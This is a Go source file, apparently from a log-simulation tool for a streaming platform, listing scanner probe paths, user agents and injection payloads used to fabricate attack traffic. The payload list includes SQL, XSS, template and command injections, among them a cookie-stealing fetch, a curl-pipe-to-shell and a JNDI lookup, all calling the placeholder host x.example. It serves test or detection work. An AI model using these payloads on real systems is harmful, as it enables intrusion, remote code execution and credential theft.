package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// probes are the paths scanners try: leaked files, admin consoles,
// framework endpoints, and this platform's own private corners.
var probes = []string{
	"/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/wp-login.php", "/wp-admin/",
	"/xmlrpc.php", "/admin", "/admin/login", "/administrator/", "/phpmyadmin/", "/pma/", "/server-status", "/nginx_status",
	"/config.json", "/config.yml", "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql", "/.aws/credentials", "/.ssh/id_rsa",
	"/actuator", "/actuator/env", "/actuator/heapdump", "/swagger-ui.html", "/swagger.json", "/openapi.json", "/v2/api-docs", "/graphql",
	"/console", "/jenkins/", "/manager/html", "/solr/admin/", "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/telescope/requests", "/_profiler/", "/debug/pprof/", "/metrics",
	"/elmah.axd", "/web.config", "/.htaccess", "/storage/logs/laravel.log", "/owa/", "/remote/login", "/api/v1/users",
	"/api/v1/admin", "/api/internal/config", "/origin/", "/origin/vod/", "/origin/health", "/drm/widevine/", "/packager/status",
	"/transcoder/jobs", "/upload", "/uploads/", "/files/", "/static/", "/crossdomain.xml", "/clientaccesspolicy.xml",
}

// apiProbes are what an attacker guesses about an API: other versions,
// admin and internal resources, documentation.
var apiProbes = []string{
	"/admin/users", "/admin/config", "/internal/flags", "/internal/health", "/debug/vars", "/users", "/users/me/roles",
	"/accounts", "/billing/invoices/all", "/playback/sessions", "/feature-flags", "/docs", "/openapi.yaml", "/swagger.json",
	"/graphql", "/partners", "/partners/keys", "/drm/keys", "/cdn/purge", "/titles?include=unreleased",
}

// probeStatus is what the gateway answers to a probe.
func probeStatus(r *rand.Rand, path string) int {
	switch {
	case strings.HasPrefix(path, "/origin/"), strings.Contains(path, "/admin"), strings.Contains(path, "/internal"), strings.HasPrefix(path, "/drm/"), strings.Contains(path, "/partners"):
		return Pick(r, []int{401, 403, 403})
	case path == "/metrics" || path == "/robots.txt" || path == "/crossdomain.xml":
		return 200
	case strings.Contains(path, "graphql"):
		return 405
	}
	return 404
}

// payloads are the injection strings of SQL, script, template, command,
// NoSQL and path attacks.
var payloads = []string{
	"' OR '1'='1", "' OR 1=1-- -", "1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--",
	"1) AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
	"admin'--", "\" OR \"\"=\"", "1;SELECT pg_sleep(5)", "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
	"<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=fetch('//x.example/'+document.cookie)>",
	"javascript:alert(1)", "'-alert(1)-'", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	"; cat /etc/passwd", "| id", "$(sleep 5)", "`whoami`", "&& curl http://x.example/s.sh|sh",
	"{\"$ne\":null}", "{\"$gt\":\"\"}", "[$regex]=.*", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
	"${jndi:ldap://x.example:1389/a}", "%00", "' AND extractvalue(1,concat(0x7e,(select user())))--",
}

// traversals are path-traversal tails for file-serving routes.
var traversals = []string{
	"..%2f..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd", "....//....//....//etc/passwd",
	"%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "..%5c..%5c..%5cwindows%5cwin.ini", "..;/..;/WEB-INF/web.xml",
}

// rawQuery replaces only what would break a query string, as a tool that
// does not encode sends it.
var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23", "?", "%3F")

// scannerUAs are the tools that say what they are.
var scannerUAs = []string{
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"Mozilla/5.0 zgrab/0.x", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "gobuster/3.6", "ffuf/v2.1.0",
	"sqlmap/1.8#stable (https://sqlmap.org)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
}

// rippers are what stream-ripping tools send when they do not pretend.
var rippers = []string{"Lavf/60.16.100", "yt-dlp/2024.01.09", "N_m3u8DL-RE/0.2.0", "Streamlink/6.5.1"}
